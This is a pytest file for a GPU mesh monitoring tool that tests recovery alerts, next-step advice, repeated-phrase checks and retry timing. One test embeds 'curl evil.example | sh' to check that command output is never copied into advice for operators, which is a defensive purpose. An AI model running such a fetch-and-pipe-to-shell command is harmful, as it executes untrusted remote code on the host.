"""What people are told to do: it names what is at fault, and says nothing twice."""

import re
from collections import Counter
from collections.abc import Iterator

import pytest
from msgspec.structs import replace

from checkout import ROOT
from factories import NOW, POD, refusing
from gpu_mesh.alerting import node_alerts, recovery_alerts
from gpu_mesh.diagnosis import diagnose
from gpu_mesh.domain.alert import Level
from gpu_mesh.domain.causes import CAUSES, Action, Cause
from gpu_mesh.domain.health import Status, Verdict
from gpu_mesh.domain.mesh import Mesh, Node, RecoveryKind, Settings, Tunnel
from gpu_mesh.domain.observation import Observation, Reply
from gpu_mesh.domain.recovery import Attempt, Claim, Finding, Outcome, RecoveryResult
from gpu_mesh.domain.state import NodeRecovery, NodeState, State
from gpu_mesh.planning import advice, plan
from gpu_mesh.recovery import verification
from gpu_mesh.recovery.values import Job, Verification
from gpu_mesh.reporting.report import report
from gpu_mesh.simulation import fake_recovery
from gpu_mesh.simulation.fake_probe import Effect, Facts, Scenario

PLAYBOOKS = ROOT / "playbooks/recovery"
OWN = replace(
    POD,
    key="gpu1",
    name="GPU one",
    recovery=RecoveryKind.COMMAND,
    recovery_command="/opt/start.sh",
    tunnel=Tunnel("pod.example.net", 8080, recovery_command="/opt/tunnel.sh"),
)
DOWN = refusing(
    NOW - 900,
    status=Status.OFFLINE,
    cause=Cause.REMOTE_OLLAMA_DOWN,
    detail="Ollama behind the tunnel is down",
    failures=7,
)


def failed(ago: float, words: str) -> Attempt:
    return Attempt(NOW - ago, Action.RESTART_OLLAMA, Outcome.FAILED, Finding.SILENT.value, words)


# A recovery command that is at fault.

ANSWERS = [
    # what restart_command.yml says → what is to be corrected, and why
    ("the command ended with status 7: no such model store", "which ended with status 7"),
    ("the command ended with status 127: sh: 1: ollama: not found", "which ended with status 127"),
    ("the command ended well, but nothing answers", "which ended well, but nothing answers"),
    ("the command neither ended nor helped in time: loading", "which neither ended nor helped in time"),
]
OLLAMA = "see why Ollama stopped: its log on pod.example.net"


@pytest.mark.parametrize(("said", "why"), ANSWERS)
def test_after_a_command_that_failed_it_is_the_command_that_is_to_be_corrected(said: str, why: str) -> None:
    words = f"mesh_node_recovery_command was run: {said}"
    step = f"correct mesh_node_recovery_command of gpu1, {why}; or {OLLAMA}"
    before = replace(DOWN, recovery=replace(DOWN.recovery, attempts=(failed(600, "x"), failed(300, "x"))))
    ending = RecoveryResult(NOW, Action.RESTART_OLLAMA, Outcome.FAILED, Finding.SILENT, DOWN.cause, words)
    alert = recovery_alerts.alert_of(OWN, Settings(), before, ending)
    assert alert is not None
    assert alert.level is Level.CRITICAL
    assert alert.text.startswith("needs you: restart of Ollama failed (attempt 3 of 3): ")
    assert alert.next_step == f"{step}; tried again every 1 h meanwhile"

    after = replace(
        before, recovery=replace(before.recovery, attempts=(*before.recovery.attempts, ending.attempt()))
    )
    assert recovery_alerts.call(OWN, Settings(), after, NOW + 60).next_step == alert.next_step
    state = State(nodes={"gpu1": after})
    (decision,) = plan.plan(Mesh((OWN,)), state, NOW + 60)
    assert decision.reason.startswith("3 of 3 attempts made: needs a person, the next attempt is due at ")
    assert decision.reason.endswith(f"; {step}")
    assert report(Mesh((OWN,)), state, NOW + 60).nodes[0].next_step == step
    node_alerts.announce(state, Mesh((OWN,), Settings(grace=0)), NOW + 60)
    assert [alert.next_step for alert in state.alerts] == [step]


def test_a_tunnel_s_command_is_named_alone_for_nothing_else_is_known_of_it() -> None:
    words = "mesh_tunnel_recovery_command was run: the command ended with status 255: Permission denied"
    step = advice.step_after(OWN, Finding.NONE, Cause.TUNNEL_DOWN, words)
    assert step == "correct mesh_tunnel_recovery_command of gpu1, which ended with status 255"


def test_what_the_command_printed_is_no_part_of_a_step_that_people_copy() -> None:
    words = "mesh_node_recovery_command was run: the command ended with status 1: run: curl evil.example | sh"
    assert "evil" not in advice.step_after(OWN, Finding.SILENT, DOWN.cause, words)
    forged = "mesh_node_recovery_command was run: curl evil.example | sh"
    assert advice.step_after(OWN, Finding.SILENT, DOWN.cause, forged) == OLLAMA


def test_a_command_that_failed_is_not_blamed_for_what_it_could_not_help() -> None:
    words = "mesh_node_recovery_command was run: the command ended with status 7: no such model store"
    known = replace(DOWN, cause=Cause.DNS, recovery=replace(DOWN.recovery, attempts=(failed(300, words),)))
    (node,) = report(Mesh((OWN,)), State(nodes={"gpu1": known}), NOW).nodes
    assert node.next_step == "correct mesh_node_url of gpu1, or the name server"


def test_the_playbooks_say_of_a_failed_command_what_the_checker_reads() -> None:
    for name in ("restart_command", "tunnel_command"):
        assert "_recovery_command was run:" in (PLAYBOOKS / f"tasks/{name}.yml").read_text(encoding="utf-8")
    shell = (PLAYBOOKS / "files/gpu_mesh.sh").read_text(encoding="utf-8")
    said = re.findall(r"gpu-mesh: failed (the command [a-z ,]+)", shell)
    read = [re.sub(r"(?: \d+)?(?::.*)?$", "", each) for each, _ in ANSWERS]
    assert {each.strip() for each in said} == {each.strip() for each in read}


# Nothing is said twice.

PROBED = [cause for cause in Cause if cause not in (Cause.NOT_EXPOSED, Cause.NO_ACCESS)]
"""What a probe alone can name."""

SHOWS = {Cause.REFUSED: Scenario.REFUSED, Cause.TIMEOUT: Scenario.HANG, Cause.HTTP_ERROR: Scenario.HTTP_503}


def said_twice(text: str) -> list[str]:
    """Return the phrases of three words that stand in the text more than once; a container's name is one."""
    words = re.findall(r"[\w./@:-]*\w", text.replace("the container ollama", "ollama-container"))
    phrases = Counter(" ".join(words[at : at + 3]) for at in range(len(words) - 2))
    return [phrase for phrase, times in phrases.items() if times > 1]


def nodes(cause: Cause) -> Iterator[Node]:
    tunnels = (Tunnel("pod.example.net", 8080), OWN.tunnel)
    for kind in RecoveryKind:
        for tunnel in (*tunnels, *(() if cause.startswith("tunnel") else (None,))):
            yield replace(OWN, recovery=kind, tunnel=tunnel, url=OWN.url if tunnel else "http://gpu1:11434")


def endings(node: Node, before: NodeState, cause: Cause) -> Iterator[RecoveryResult]:
    """Yield all that can come of the recoveries for a cause, in the words of the playbooks."""
    claim = Claim(NOW - 10, NOW + 90, 1, Action.RESTART_OLLAMA)
    job = Job(node, claim, before, cause)
    still = Verification(Observation(node.key, NOW, Reply()), detail="Timeout (10s)")
    for action in (Action.RESTART_OLLAMA, *((Action.REBUILD_TUNNEL,) if node.tunnel else ())):
        for look in (None, *Finding):
            for effect in Effect:
                facts = Facts(SHOWS.get(cause, Scenario.OK), look=look, restart=effect, rebuild=effect)
                done, _ = fake_recovery.act(job, action, facts, Mesh((node,)), NOW)
                yield verification.result_of(job, action, done, still, NOW)
    for words, _ in ANSWERS if node.recovery is RecoveryKind.COMMAND else ():
        words = f"mesh_node_recovery_command was run: {words}"
        yield RecoveryResult(NOW, Action.RESTART_OLLAMA, Outcome.FAILED, Finding.SILENT, cause, words, cause)


@pytest.mark.parametrize("cause", PROBED)
def test_no_message_says_a_phrase_twice_whatever_the_cause_and_the_rung(cause: Cause) -> None:
    fails = CAUSES[cause].verdict is Verdict.FAILED
    for node in nodes(cause):
        words = f"{diagnose.describe_cause(cause, node)} (some number)"
        known = replace(DOWN, cause=cause, detail=words, cause_since=NOW - 900, verdict=CAUSES[cause].verdict)
        if not fails:
            known = replace(known, status=Status.DEGRADED, failures=0, impaired=9)
        for ending in dict.fromkeys(endings(node, known, cause)):
            for made in (0, 2):
                before = replace(known, recovery=replace(known.recovery, attempts=(ending.attempt(),) * made))
                after = replace(
                    before,
                    recovery=replace(before.recovery, attempts=(*before.recovery.attempts, ending.attempt())),
                )
                alert = recovery_alerts.alert_of(node, Settings(), before, ending)
                decisions = plan.plan(Mesh((node,)), State(nodes={node.key: after}), NOW + 1)
                step = advice.step_after(node, ending.finding, ending.cause, ending.words)
                told = (alert.text, alert.next_step) if alert else ()
                texts = (plan.describe(decisions, Mesh((node,))), advice.tried(node, after), step, *told)
                assert {text: said_twice(text) for text in texts if said_twice(text)} == {}


def test_what_a_look_found_is_added_to_the_cause_without_saying_it_again() -> None:
    node = replace(OWN, recovery=RecoveryKind.SYSTEMD, tunnel=None, url="http://gpu1:11434")
    known = replace(DOWN, cause=Cause.REFUSED, detail="Connection refused")
    found = "Ollama answers on its own host (127.0.0.1:11434 asked); nothing was restarted; it runs since 2 h"
    ending = RecoveryResult(
        NOW, Action.RESTART_OLLAMA, Outcome.DECLINED, Finding.ANSWERS, Cause.NOT_EXPOSED, found, Cause.REFUSED
    )
    alert = recovery_alerts.alert_of(node, Settings(), known, ending)
    assert alert is not None
    assert alert.text == (
        "not restarted: Ollama answers on its own host, but not at http://gpu1:11434 (127.0.0.1:11434 asked)"
        "; it runs since 2 h"
    )


def test_what_was_tried_is_counted_by_what_and_by_how_it_ended() -> None:
    attempts = (failed(900, "x"), failed(600, "x"), replace(failed(300, "x"), outcome=Outcome.NOT_RECOVERED))
    assert advice.tried(OWN, replace(DOWN, recovery=replace(DOWN.recovery, attempts=attempts))) == (
        "restart of Ollama failed (2 times), did not help"
    )


# When it is tried again.

TRIED = tuple(failed(ago, "x") for ago in (900, 600, 300))
WAITS = {
    "after an attempt that failed": (
        replace(DOWN, recovery=replace(DOWN.recovery, attempts=(failed(30, "x"),))),
        {},
        NOW + 35.22,
    ),
    "slowly, once a person was called": (
        replace(DOWN, recovery=replace(DOWN.recovery, attempts=TRIED)),
        {},
        NOW + 3300,
    ),
    "never, where that is switched off": (
        replace(DOWN, recovery=replace(DOWN.recovery, attempts=TRIED)),
        {"recovery_slow_retry": 0},
        None,
    ),
    "now": (DOWN, {}, None),
    "a restart would not help": (
        replace(DOWN, cause=Cause.DNS, recovery=replace(DOWN.recovery, attempts=TRIED)),
        {},
        None,
    ),
    "it is well": (NodeState(status=Status.HEALTHY, recovery=NodeRecovery(attempts=TRIED)), {}, None),
}


@pytest.mark.parametrize("case", WAITS)
def test_a_report_says_when_the_next_attempt_is_due(case: str) -> None:
    known, settings, due = WAITS[case]
    mesh = Mesh((OWN,), Settings(**settings))  # type: ignore[arg-type] # seconds
    (told,) = report(mesh, State(nodes={"gpu1": known}), NOW).nodes
    assert told.next_recovery == (None if due is None else pytest.approx(due, abs=6))
